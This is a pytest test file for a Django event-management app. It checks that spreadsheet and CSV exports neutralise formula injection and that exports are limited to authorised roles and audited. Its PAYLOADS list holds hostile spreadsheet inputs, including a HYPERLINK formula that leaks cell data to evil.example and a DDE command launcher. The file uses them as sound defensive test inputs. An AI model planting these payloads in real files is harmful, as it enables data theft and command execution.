"""Exports write text as text (no formula injection), and only to a role that may see the rows, of its own area."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pytest
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from fengqiao.accounts.models import Role
from fengqiao.core import exports
from fengqiao.events.models import Category, Event
from fengqiao.metrics import reports
from tests.factories import make_user

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_formula_like_string_is_a_text_cell_in_xlsx(text):
    wb = Workbook()
    ws = wb.active
    exports.append_row(ws, [text, 5, -3, None])
    buf = io.BytesIO()
    wb.save(buf)
    sheet = zipfile.ZipFile(io.BytesIO(buf.getvalue())).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    cell = load_workbook(io.BytesIO(buf.getvalue())).active["A1"]
    assert cell.data_type == "s"
    assert cell.value == text.replace("\r", "\n") or cell.value == text
    assert cell.quotePrefix


def test_numbers_stay_numbers_and_plain_text_stays_plain():
    wb = Workbook()
    ws = wb.active
    exports.append_row(ws, ["甲街道", 5, -3])
    buf = io.BytesIO()
    wb.save(buf)
    row = load_workbook(io.BytesIO(buf.getvalue())).active[1]
    assert [c.value for c in row] == ["甲街道", 5, -3]
    assert [c.data_type for c in row] == ["s", "n", "n"]
    assert not row[0].quotePrefix


def test_a_write_only_sheet_is_protected_the_same_way():
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("x")
    exports.append_row(ws, ["=1+1"])
    buf = io.BytesIO()
    wb.save(buf)
    assert load_workbook(io.BytesIO(buf.getvalue())).active["A1"].data_type == "s"


def test_openpyxl_alone_would_have_written_a_formula():
    # Why the helper exists: a plain append stores the string as a formula.
    wb = Workbook()
    wb.active.append(["=1+1"])
    assert wb.active["A1"].data_type == "f"


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_formula_like_string_is_prefixed_with_an_apostrophe_in_csv(text):
    out = io.StringIO()
    exports.write_csv_row(exports.csv_writer(out), [text, "普通文字", 3])
    first, plain, number = next(csv.reader(io.StringIO(out.getvalue())))
    assert first == "'" + text
    assert plain == "普通文字"
    assert number == "3"


# --- the events export ------------------------------------------------------------------------------------------


@pytest.fixture
def hostile_event(tree, catalogue):
    return Event.objects.create(
        tracking_code="T000001",
        grid=tree["410105001001001"],
        category=Category.objects.get(code="0403"),
        source="patrol",
        description=PAYLOADS[0],
        state="reported",
        reported_at=timezone.now() - dt.timedelta(hours=1),
        lon=113.602,
        lat=34.708,
    )


@pytest.fixture
def street_b_event(tree, catalogue):
    return Event.objects.create(
        tracking_code="T000002",
        grid=tree["410105002001001"],
        category=Category.objects.get(code="0403"),
        source="patrol",
        description="乙街道的事件",
        state="reported",
        reported_at=timezone.now() - dt.timedelta(hours=1),
        lon=113.612,
        lat=34.705,
    )


def test_the_events_export_writes_a_hostile_description_as_text(hostile_event):
    data, count = reports.events_xlsx([hostile_event])
    assert count == 1
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["D2"].value == PAYLOADS[0]
    assert ws["D2"].data_type == "s"
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_the_monthly_review_writes_a_hostile_unit_name_as_text(tree):
    node = tree["410105001"]
    node.name = "=1+1"
    node.save(update_fields=["name"])
    review = reports.monthly_review(node=tree["410105"], month=timezone.localdate().replace(day=1))
    book = load_workbook(io.BytesIO(reports.review_xlsx(review)))
    assert all(c.data_type != "f" for ws in book for row in ws.iter_rows() for c in row)
    assert book["下级排名"]["B2"].value == "=1+1"


@pytest.mark.parametrize("role", [Role.GRID_WORKER, Role.GRID_LEADER, Role.HANDLER, Role.MEDIATOR])
def test_a_role_below_the_centre_cannot_export_events(client, tree, role, hostile_event):
    user = make_user(f"u_{role}", role=role, node=tree["410105001"], password=None)
    client.force_login(user)
    assert client.get("/metrics/export/events.xlsx").status_code == 403


def test_a_user_with_no_role_cannot_export_events(client, tree, hostile_event):
    client.force_login(make_user("resident", password=None))
    assert client.get("/metrics/export/events.xlsx").status_code == 403


def test_the_export_holds_only_the_exporters_area(client, tree, hostile_event, street_b_event):
    centre_b = make_user("centre_b", role=Role.DISPATCHER, node=tree["410105002"], password=None)
    client.force_login(centre_b)
    response = client.get("/metrics/export/events.xlsx", {"grid": "410105001", "scope": "all"})
    assert response.status_code == 200
    codes = [row[0] for row in load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True)][1:]
    assert "T000001" not in codes
    client.force_login(centre_b)
    response = client.get("/metrics/export/events.xlsx", {"scope": "all"})
    codes = [row[0] for row in load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True)][1:]
    assert codes == ["T000002"]


def test_the_centre_of_the_area_exports_its_events(client, tree, hostile_event):
    centre_a = make_user("centre_a", role=Role.DISPATCHER, node=tree["410105001"], password=None)
    client.force_login(centre_a)
    response = client.get("/metrics/export/events.xlsx")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"


def _export_rows():
    from fengqiao.core.models import Action

    return list(Action.objects.filter(verb="export_events").values("actor_id", "grid_path", "data"))


@pytest.mark.parametrize("role", [Role.GRID_WORKER, Role.GRID_LEADER, Role.HANDLER, Role.MEDIATOR])
def test_a_refused_export_leaves_no_export_audit_row(client, tree, role, hostile_event):
    client.force_login(make_user(f"u_{role}", role=role, node=tree["410105001"], password=None))
    assert client.get("/metrics/export/events.xlsx").status_code == 403
    assert _export_rows() == []


def test_each_export_is_audited_once_with_who_how_many_and_which_filters(client, tree, hostile_event, street_b_event):
    centre_b = make_user("centre_b", role=Role.DISPATCHER, node=tree["410105002"], password=None)
    client.force_login(centre_b)
    assert client.get("/metrics/export/events.xlsx", {"state": "reported", "scope": "all"}).status_code == 200
    assert _export_rows() == [
        {
            "actor_id": centre_b.pk,
            "grid_path": tree["410105002"].path,  # filed under the exporter's area, seen by its auditors
            "data": {"count": 1, "filters": {"state": "reported", "scope": "all"}},
        }
    ]


def test_an_export_whose_read_fails_is_not_audited_so_its_retry_is_audited_once(
    client, tree, hostile_event, monkeypatch
):
    """A replica page whose read fails is answered again from the primary (core.dbrouting): the audit row must come
    after the read, or the retry would file a second one."""
    from django.db import DatabaseError

    centre_a = make_user("centre_a", role=Role.DISPATCHER, node=tree["410105001"], password=None)
    real = reports.events_xlsx

    def broken(events):
        raise DatabaseError("the replica went away")

    monkeypatch.setattr(reports, "events_xlsx", broken)
    with pytest.raises(DatabaseError):
        reports.export_events(actor=centre_a, filters=reports.QueueFilters())
    assert _export_rows() == []
    monkeypatch.setattr(reports, "events_xlsx", real)
    reports.export_events(actor=centre_a, filters=reports.QueueFilters())
    assert [row["data"]["count"] for row in _export_rows()] == [1]


def test_the_workbench_offers_the_export_with_its_filters_only_to_those_who_may_take_it(client, tree, hostile_event):
    centre = make_user("centre_a", role=Role.DISPATCHER, node=tree["410105001"], password=None)
    worker = make_user("worker_a", role=Role.GRID_WORKER, node=tree["410105001"], password=None)
    client.force_login(centre)
    page = client.get("/events/", {"state": "reported", "scope": "all"}).content.decode()
    assert 'id="export-events" href="/metrics/export/events.xlsx?state=reported&amp;scope=all"' in page
    client.force_login(worker)
    page = client.get("/events/", {"state": "reported"}).content.decode()
    assert client.get("/events/").status_code == 200 and "export-events" not in page


def test_the_export_takes_what_the_workbench_lists(client, tree, street_b_event):
    """Without parameters the workbench shows the centre's own level (本级待办): a street centre does not own a grid's
    report, so its default export is empty too; the whole jurisdiction (辖区全部) has it."""
    centre_b = make_user("centre_b", role=Role.DISPATCHER, node=tree["410105002"], password=None)
    client.force_login(centre_b)
    for query, expected in (({}, []), ({"scope": "all"}, ["T000002"])):
        listed = [e.tracking_code for e in client.get("/events/", query).context["page"]]
        book = load_workbook(io.BytesIO(client.get("/metrics/export/events.xlsx", query).content))
        exported = [row[0] for row in book.active.iter_rows(values_only=True)][1:]
        assert listed == exported == expected, query
